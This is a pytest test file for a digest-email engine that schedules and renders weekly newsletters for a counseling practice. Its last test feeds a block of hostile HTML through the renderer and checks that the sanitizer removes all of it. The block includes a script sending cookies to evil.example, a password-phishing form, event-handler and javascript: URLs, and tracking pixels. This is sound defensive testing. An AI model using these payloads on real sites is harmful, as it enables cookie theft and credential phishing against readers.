"""Digest editions: planned once per edition on its local schedule, on SQLite and PostgreSQL;
the posts since the last edition; skipped when there are none; rendered under 100 KB."""

from __future__ import annotations

import hashlib
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest
from sqlalchemy import select
from test_render_support import demo_post, sensitive_post

from syndicate.email.lint import lint_html, site_hosts
from syndicate.engine.digest import NO_POSTS, SERIES_STARTS, plan_digests
from syndicate.engine.planner import plan_pending
from syndicate.engine.runner import ledger, run_once
from syndicate.ledger.db import transaction
from syndicate.ledger.models import Delivery, Feed, Post
from syndicate.model import PostData
from syndicate.render.email import MAX_HTML_BYTES, render_digest_email

# Weekly on Tuesday 09:00 New York. 2026-11-17 and 2026-11-24 are Tuesdays (EST, UTC-5).
EDITION_1 = datetime(2026, 11, 17, 14, 0, tzinfo=UTC)
EDITION_2 = datetime(2026, 11, 24, 14, 0, tzinfo=UTC)
EDITION_3 = datetime(2026, 12, 1, 14, 0, tzinfo=UTC)


@pytest.fixture
def settings(make_settings, store_url):
    return make_settings(store_url=store_url, channels={
        "weekly": {"kind": "email", "mode": "digest", "digest": {"every": "week", "day": "tue", "at": "09:00"},
                   "to": ["reader@example.org"]},
        "x": {"kind": "x"},
    })


def add_post(settings, seen: datetime, title: str, *, plan: str = "send", data: PostData | None = None) -> int:
    data = data or demo_post(title=title, url=f"https://harborwellness.example/{abs(hash(title))}/",
                             identity=title, published=seen)
    data.title = title
    with transaction(ledger(settings)) as s:
        feed = s.scalar(select(Feed).where(Feed.name == "wellness"))
        if feed is None:
            feed = Feed(name="wellness", url="https://harborwellness.example/feed/", polls=1)
            s.add(feed)
            s.flush()
        post = Post(feed_id=feed.id, identity=title, fingerprint=hashlib.sha1(title.encode()).hexdigest(),
                    url=data.url, title=title, data=data.to_dict(), plan=plan, first_seen_at=seen,
                    published_at=data.published)
        s.add(post)
        s.flush()
        return post.id


def editions(settings) -> list[Delivery]:
    with transaction(ledger(settings)) as s:
        return list(s.scalars(select(Delivery).where(Delivery.channel == "weekly").order_by(Delivery.id)))


def test_an_edition_is_planned_once_when_its_time_comes(settings):
    # The channel's series began with the edition before (so its first edition is a real one).
    plan_digests(ledger(settings), settings, EDITION_1 + timedelta(minutes=5))
    first = add_post(settings, EDITION_1 + timedelta(days=1), "Monday notes")
    second = add_post(settings, EDITION_1 + timedelta(days=3), "Thursday notes")
    add_post(settings, EDITION_1 + timedelta(days=2), "Held by a flood", plan="hold")
    add_post(settings, EDITION_1 + timedelta(days=2), "Seen at the first poll", plan="ignore")
    plan_digests(ledger(settings), settings, EDITION_2 - timedelta(minutes=1))  # not yet
    assert [d.subject for d in editions(settings)] == ["digest:2026-W47"]
    for _ in range(2):  # a second tick (or a second dispatcher) changes nothing
        result = plan_digests(ledger(settings), settings, EDITION_2 + timedelta(seconds=30))
    assert result.planned == 0
    rows = editions(settings)
    assert [d.subject for d in rows] == ["digest:2026-W47", "digest:2026-W48"]
    edition = rows[1]
    assert edition.state == "planned" and edition.kind == "email"
    assert edition.due_at == EDITION_2 + timedelta(seconds=30)  # planned at that tick: due at once
    assert edition.payload["edition"]["post_ids"] == [second, first]  # newest first
    assert edition.payload["subject"] == "Thursday notes, and 1 more from Harbor Wellness Counseling"
    html = edition.payload["html"]
    body = html[html.index("In this issue</h1>"):]
    assert body.index("Thursday notes") < body.index("Monday notes")
    assert "Held by a flood" not in html and "Seen at the first poll" not in html
    assert len(html.encode()) < MAX_HTML_BYTES


def test_per_post_channels_ignore_digest_channels_and_vice_versa(settings):
    add_post(settings, EDITION_1 + timedelta(days=1), "Monday notes")
    plan_pending(ledger(settings), settings, EDITION_1 + timedelta(days=1))
    with transaction(ledger(settings)) as s:
        channels = set(s.scalars(select(Delivery.channel).where(Delivery.subject.like("post:%"))))
    assert channels == {"x"}


def test_no_new_posts_skips_the_edition(settings):
    plan_digests(ledger(settings), settings, EDITION_1 + timedelta(minutes=5))
    plan_digests(ledger(settings), settings, EDITION_2 + timedelta(minutes=5))
    skipped = editions(settings)[1]
    assert skipped.subject == "digest:2026-W48"
    assert skipped.state == "skipped" and skipped.hold_reason == NO_POSTS
    # The window still moves on: the next edition starts where the skipped one ended.
    add_post(settings, EDITION_2 + timedelta(hours=1), "After the skipped one")
    plan_digests(ledger(settings), settings, EDITION_3 + timedelta(minutes=5))
    assert editions(settings)[2].state == "planned"
    assert editions(settings)[2].payload["edition"]["since"] == EDITION_2.isoformat()


def test_every_post_is_in_exactly_one_edition(settings):
    plan_digests(ledger(settings), settings, EDITION_1 + timedelta(minutes=5))
    at_edge = add_post(settings, EDITION_2, "Seen exactly at the edition")  # (since, until]: this one
    after = add_post(settings, EDITION_2 + timedelta(seconds=1), "Seen just after")
    plan_digests(ledger(settings), settings, EDITION_2 + timedelta(minutes=1))
    plan_digests(ledger(settings), settings, EDITION_3 + timedelta(minutes=1))
    _, second, third = editions(settings)
    assert second.payload["edition"]["post_ids"] == [at_edge]
    assert third.payload["edition"]["post_ids"] == [after]


def test_a_missed_edition_is_caught_up_by_the_next(settings):
    """Nothing ran for the W48 edition: W49 covers everything since W47 (no post lost), once."""
    plan_digests(ledger(settings), settings, EDITION_1 + timedelta(minutes=5))
    a = add_post(settings, EDITION_1 + timedelta(days=2), "Before the missed edition")
    b = add_post(settings, EDITION_2 + timedelta(days=2), "After the missed edition")
    plan_digests(ledger(settings), settings, EDITION_3 + timedelta(hours=2))
    rows = editions(settings)
    assert [d.subject for d in rows] == ["digest:2026-W47", "digest:2026-W49"]
    assert set(rows[1].payload["edition"]["post_ids"]) == {a, b}


def test_a_new_digest_channel_does_not_mail_the_archive(settings):
    add_post(settings, EDITION_2 - timedelta(days=3), "Old post")
    plan_digests(ledger(settings), settings, EDITION_2 + timedelta(days=2))  # added mid-week
    (first,) = editions(settings)
    assert first.state == "skipped" and first.hold_reason == SERIES_STARTS
    new = add_post(settings, EDITION_2 + timedelta(days=3), "New post")
    plan_digests(ledger(settings), settings, EDITION_3 + timedelta(minutes=1))
    assert editions(settings)[1].payload["edition"]["post_ids"] == [new]


def test_channel_delay_shifts_the_window(make_settings, store_url):
    settings = make_settings(store_url=store_url, channels={
        "weekly": {"kind": "email", "mode": "digest", "delay": "2h",
                   "digest": {"every": "week", "day": "tue", "at": "09:00"}}})
    plan_digests(ledger(settings), settings, EDITION_1 + timedelta(minutes=5))
    late = add_post(settings, EDITION_2 - timedelta(hours=1), "One hour before the edition")
    plan_digests(ledger(settings), settings, EDITION_2 + timedelta(minutes=1))
    assert editions(settings)[1].state == "skipped"  # not ready until 2 h after it was seen
    plan_digests(ledger(settings), settings, EDITION_3 + timedelta(minutes=1))
    assert editions(settings)[2].payload["edition"]["post_ids"] == [late]


def test_daily_digest_across_the_fall_back_night(make_settings, store_url):
    settings = make_settings(store_url=store_url, channels={
        "daily": {"kind": "email", "mode": "digest", "digest": {"every": "day", "at": "01:30"}}})
    # 2026-11-01: New York falls back; 01:30 happens twice; the edition is the first one (05:30Z).
    start = datetime(2026, 10, 31, 5, 30, tzinfo=UTC)
    plan_digests(ledger(settings), settings, start + timedelta(minutes=1))
    add_post(settings, start + timedelta(hours=3), "Saturday")
    for minutes in range(0, 24 * 60 * 3, 15):  # every tick for three days
        plan_digests(ledger(settings), settings, start + timedelta(minutes=minutes))
    with transaction(ledger(settings)) as s:
        subjects = list(s.scalars(select(Delivery.subject).where(Delivery.channel == "daily").order_by(Delivery.id)))
    assert subjects == ["digest:2026-10-31", "digest:2026-11-01", "digest:2026-11-02"]


def test_the_runner_plans_and_sends_an_edition(settings):
    plan_digests(ledger(settings), settings, EDITION_1 + timedelta(minutes=5))
    add_post(settings, EDITION_1 + timedelta(days=1), "Monday notes")
    summary = run_once(settings, EDITION_2 + timedelta(minutes=5))
    edition = editions(settings)[1]
    assert edition.state == "sent"
    assert any(o.delivery_id == edition.id and o.state == "sent" for o in summary.outcomes)
    assert (settings.outbox_dir / "weekly" / f"{edition.id}.eml").is_file()


def test_held_channel_holds_its_editions(make_settings, store_url):
    settings = make_settings(store_url=store_url, channels={
        "weekly": {"kind": "email", "mode": "digest", "hold": True,
                   "digest": {"every": "week", "day": "tue"}}})
    plan_digests(ledger(settings), settings, EDITION_1 + timedelta(minutes=5))
    add_post(settings, EDITION_1 + timedelta(days=1), "Monday notes")
    plan_digests(ledger(settings), settings, EDITION_2 + timedelta(minutes=5))
    assert editions(settings)[1].state == "held"


# ---------------------------------------------------------------- rendering


def _digest_settings(make_settings):
    return make_settings(channels={"weekly": {"kind": "email", "mode": "digest",
                                              "digest": {"every": "week", "day": "tue"}}})


def test_digest_layout_cards_and_frame(make_settings):
    settings = _digest_settings(make_settings)
    posts = [demo_post(title=f"Post {i}", url=f"https://harborwellness.example/p{i}/") for i in range(3)]
    content = render_digest_email(posts, settings, "weekly", edition_at=EDITION_2)
    html, text = content.html, content.text
    assert "Weekly digest · November 24, 2026" in html
    # a card each; its link names the post ("Read more" five times would say nothing on its own)
    assert html.count("Read “Post ") == 3 and html.count('alt="A calm lake at dawn"') == 3
    assert "By Dana Rivera, LCSW" in html
    assert "Harbor Wellness Counseling" in html  # header
    assert "Contact us" in html and "120 Water Street" in html  # contact and footer partials
    assert "This inbox is not monitored for emergencies" in html and "/unsubscribe/{token}" in html
    assert not content.sensitive and "988" in html  # crisis line in the footer of every email
    assert content.preheader.startswith("In this issue: Post 0 · Post 1")
    assert "In this issue:\n- Post 0\n- Post 1\n- Post 2" in text
    assert "Read more: https://harborwellness.example/p1/" in text
    assert not lint_html(html, site_hosts(settings))


def test_a_sensitive_post_puts_the_crisis_block_on_top(make_settings):
    settings = _digest_settings(make_settings)
    content = render_digest_email([demo_post(), sensitive_post()], settings, "weekly", edition_at=EDITION_2)
    assert content.sensitive
    crisis = "If you are in crisis, call or text 988"
    assert content.html.index(crisis) < content.html.index("In this issue</h1>")
    assert content.text.index(crisis) < content.text.index("In this issue")


def test_many_posts_stay_under_100_kb(make_settings):
    settings = _digest_settings(make_settings)
    posts = [demo_post(title=f"A rather long title for post number {i} about feeling calmer",
                       url=f"https://harborwellness.example/{i}/", summary="word " * 200) for i in range(120)]
    content = render_digest_email(posts, settings, "weekly", edition_at=EDITION_2)
    assert len(content.html.encode()) < MAX_HTML_BYTES
    assert "Contact us" in content.html and "Unsubscribe" in content.html  # the footer survived
    assert "And 60 more on" in content.html  # the headline list is capped too
    assert 0 < content.html.count("Read “A rather long title") < 120
    assert not lint_html(content.html, site_hosts(settings))


def _tags(html: str) -> list[tuple[str, list]]:
    found = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(html)
    return found


HOSTILE = """
<p onclick="steal()">Hello <a href="javascript:alert(1)">click</a> <a href=" java&#x0A;script:alert(2)">x</a></p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<form action="https://evil.example/phish"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe>
<img src="https://evil.example/pixel.gif" width="1" height="1">
<img src="x" onerror="alert(3)">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/bg.png)">cover</div>
<style>body { background: url(https://evil.example/s.png) } @import url(https://evil.example/x.css);</style>
<svg onload="alert(4)"><script>alert(5)</script></svg>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
"""


def test_hostile_feed_html_never_reaches_a_digest(make_settings):
    settings = _digest_settings(make_settings)
    evil = PostData(identity="evil", fingerprint="evil", url="https://harborwellness.example/evil/",
                    title='<script>alert("title")</script> Calm & <b>bold</b>', content_html=HOSTILE,
                    summary="", author='<img src=x onerror=alert(1)>', image_url="javascript:alert(9)",
                    image_alt='" onload="alert(1)')
    content = render_digest_email([evil, demo_post()], settings, "weekly", edition_at=EDITION_2)
    html = content.html.lower()
    for tag, attrs in _tags(content.html):
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)  # no event handler
            if name in ("href", "src"):
                assert not re.match(r"\s*(?:javascript|data|vbscript):", value or "", re.I), (tag, value)
    for bad in ("<script", "<form", "<iframe", "<svg", "<input", "<button", "http-equiv=\"refresh", "evil.example"):
        assert bad not in html, bad
    assert "&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;" in content.html  # shown, not run
    assert not lint_html(content.html, site_hosts(settings, ["wellness.example"]))  # demo_post's own host
